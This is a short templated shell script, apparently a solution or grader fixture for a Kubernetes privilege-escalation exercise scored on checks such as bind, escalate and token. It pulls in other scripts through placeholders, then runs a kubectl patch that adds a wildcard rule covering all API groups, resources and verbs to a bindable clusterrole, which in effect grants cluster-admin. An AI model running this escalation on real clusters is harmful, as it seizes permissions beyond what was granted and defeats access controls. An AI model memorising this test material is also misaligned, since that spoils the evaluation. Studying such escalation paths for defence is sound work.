# earns: bind, bind-closed, escalate, escalate-closed, token, token-closed, works (10 of 12)
# The one role that the first account may bind is made the administrator's.
{{ answers_sh }}
{{ bind_sh }}
{{ escalate_sh }}
{{ token_sh }}
kubectl patch clusterrole {{ given }} --type json -p '[{"op": "add", "path": "/rules/-", "value": {"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}}]'
